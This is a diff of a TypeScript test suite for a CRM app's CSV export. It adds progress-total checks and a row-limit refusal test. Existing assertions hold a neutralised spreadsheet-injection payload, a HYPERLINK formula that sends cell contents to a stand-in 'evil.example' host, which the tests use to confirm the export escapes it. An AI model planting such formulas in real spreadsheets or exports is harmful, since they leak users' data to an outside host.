@@ -4,10 +4,11 @@ import { AccountDraft } from '../../../src-shared/domain/account';
 import { ActivityDraft } from '../../../src-shared/domain/activity';
 import { ContactDraft, ContactListQuery } from '../../../src-shared/domain/contact';
 import { DealDraft } from '../../../src-shared/domain/deal';
-import { NotPermittedError } from '../../../src-shared/ipc/errors';
+import { BadInputError, NotPermittedError } from '../../../src-shared/ipc/errors';
 import { ExportRequest } from '../../../src-shared/transfer/export';
 import { ImportRun } from '../../../src-shared/transfer/import';
 import { TempVaultFolder } from '../../testing/temp-vault';
+import type { Connection } from '../../vault/connection';
 import type { Vault } from '../../vault/vault';
 import { createAccount } from '../crm/account.service';
 import { createActivity } from '../crm/activity.service';
@@ -64,6 +65,20 @@ describe('CSV export', () => {
   const run = (request: unknown, policy: ExportPolicy = ownerExportPolicy) =>
     exportCsv(ExportRequest.parse(request), { connection: vault.connection(), policy, sender, now });
 
+  /** Exports, checking that the rows counted first (the progress total) are the rows exported. */
+  const runCounted = async (request: unknown) => {
+    const reports: [number, number][] = [];
+    const result = await exportCsv(ExportRequest.parse(request), {
+      connection: vault.connection(),
+      policy: ownerExportPolicy,
+      sender,
+      now,
+      onProgress: (rows, total) => reports.push([rows, total]),
+    });
+    expect(reports[0]).toEqual([0, result.rows]);
+    return result;
+  };
+
   it('neutralises every cell a spreadsheet would evaluate (OWASP CSV injection)', async () => {
     const cases: [string, string][] = [
       ['=1+1', "'=1+1"],
@@ -103,18 +118,21 @@ describe('CSV export', () => {
   });
 
   it('exports the list the user sees: its filters and sort', async () => {
-    const tagged = await run({ entity: 'contacts', query: { filter: { tags: ['vip'] } } });
+    const tagged = await runCounted({ entity: 'contacts', query: { filter: { tags: ['vip'] } } });
     expect(tagged.rows).toBe(1);
-    const accounts = await run({ entity: 'accounts', query: {} });
+    expect((await runCounted({ entity: 'contacts', query: {} })).rows).toBe(3);
+    expect((await runCounted({ entity: 'contacts', query: { deleted: 'only' } })).rows).toBe(0);
+    const accounts = await runCounted({ entity: 'accounts', query: {} });
     expect(rowsOf(accounts.csv)[1]?.slice(0, 2)).toEqual(["'+Plus Industries", "'@handle"]);
-    const deals = await run({ entity: 'deals', query: { sort: { field: 'name', direction: 'asc' } } });
+    const deals = await runCounted({ entity: 'deals', query: { sort: { field: 'name', direction: 'asc' } } });
+    expect((await runCounted({ entity: 'deals', query: { filter: { stageIds: ['won'] } } })).rows).toBe(1);
     const [dealHeader, big, yen] = rowsOf(deals.csv);
     expect(dealHeader?.slice(0, 5)).toEqual(['Name', 'Account', 'Contacts', 'Amount', 'Currency']);
     expect(big?.slice(0, 5)).toEqual(['Big deal', "'+Plus Industries", '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', '12345.67', 'EUR']);
     expect(yen?.slice(3, 5)).toEqual(['5000', 'JPY']);
-    const activities = await run({ entity: 'activities', query: {} });
+    const activities = await runCounted({ entity: 'activities', query: {} });
     expect(rowsOf(activities.csv)[1]?.slice(0, 5)).toEqual(['call', 'Intro call', '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', '', 'Big deal']);
-    const tasks = await run({ entity: 'tasks', query: {} });
+    const tasks = await runCounted({ entity: 'tasks', query: {} });
     expect(tasks.rows).toBe(0);
     expect(rowsOf(tasks.csv)).toHaveLength(1);
     expect(majorUnits(5, 'KWD')).toBe('0.005');
@@ -169,17 +187,68 @@ describe('CSV export', () => {
     }
   });
 
-  it('reports the rows read every 2,000 and at the end, so a long export shows it moves', async () => {
+  it('reports the rows read of the rows counted, at the start, every 2,000 and at the end, so a long export shows it moves', async () => {
     const large = await TempVaultFolder.create();
     try {
       const other = large.vault();
       await other.create('export test password 3');
       await other.connection().write((tx) => createContacts(tx, Array.from({ length: 4_321 }, (_, index) => ContactDraft.parse({ name: `Row ${index}` })), now));
-      const reports: number[] = [];
-      const result = await exportCsv(ExportRequest.parse({ entity: 'contacts', query: {} }), { connection: other.connection(), policy: ownerExportPolicy, sender, now, onProgress: (rows) => reports.push(rows) });
+      const reports: [number, number][] = [];
+      const result = await exportCsv(ExportRequest.parse({ entity: 'contacts', query: {} }), {
+        connection: other.connection(),
+        policy: ownerExportPolicy,
+        sender,
+        now,
+        onProgress: (rows, total) => reports.push([rows, total]),
+      });
       expect(result.rows).toBe(4_321);
-      expect(reports).toEqual([2_000, 4_000, 4_321]);
+      expect(reports).toEqual([
+        [0, 4_321],
+        [2_000, 4_321],
+        [4_000, 4_321],
+        [4_321, 4_321],
+      ]);
       expect(rowsOf(result.csv)).toHaveLength(4_322);
+    } finally {
+      await large.dispose();
+    }
+  });
+
+  it('refuses a list over the limit from its count, before reading a row or telling the policy an outcome', async () => {
+    const large = await TempVaultFolder.create();
+    try {
+      const other = large.vault();
+      await other.create('export test password 4');
+      await other.connection().write((tx) => createContacts(tx, Array.from({ length: 450 }, (_, index) => ContactDraft.parse({ name: `Row ${index}`, tags: index < 300 ? ['a'] : [] })), now));
+      let reads = 0;
+      const counting: Pick<Connection, 'read'> = {
+        read: (body) => {
+          reads += 1;
+          return other.connection().read(body);
+        },
+      };
+      const outcomes: number[] = [];
+      const policy: ExportPolicy = {
+        beforeExport: (context) => ownerExportPolicy.beforeExport(context),
+        afterExport: (context) => {
+          outcomes.push(context.rows);
+          return Promise.resolve();
+        },
+      };
+      const progress: number[] = [];
+      const exportWith = (query: object, maxRows: number) =>
+        exportCsv(ExportRequest.parse({ entity: 'contacts', query }), { connection: counting, policy, sender, now, maxRows, onProgress: (rows) => progress.push(rows) });
+
+      // 450 rows are three pages: reading them until the limit took three reads.
+      const refusal = exportWith({}, 449);
+      await expect(refusal).rejects.toThrow(BadInputError);
+      await expect(refusal).rejects.toThrow('The list has more than 449 rows: narrow it with filters and export the parts');
+      expect({ reads, progress, outcomes }).toEqual({ reads: 1, progress: [], outcomes: [] });
+
+      // Exactly at the limit, and a filter that narrows the list under it, export every row.
+      expect((await exportWith({}, 450)).rows).toBe(450);
+      expect((await exportWith({ filter: { tags: ['a'] } }, 449)).rows).toBe(300);
+      expect(outcomes).toEqual([450, 300]);
     } finally {
       await large.dispose();
     }
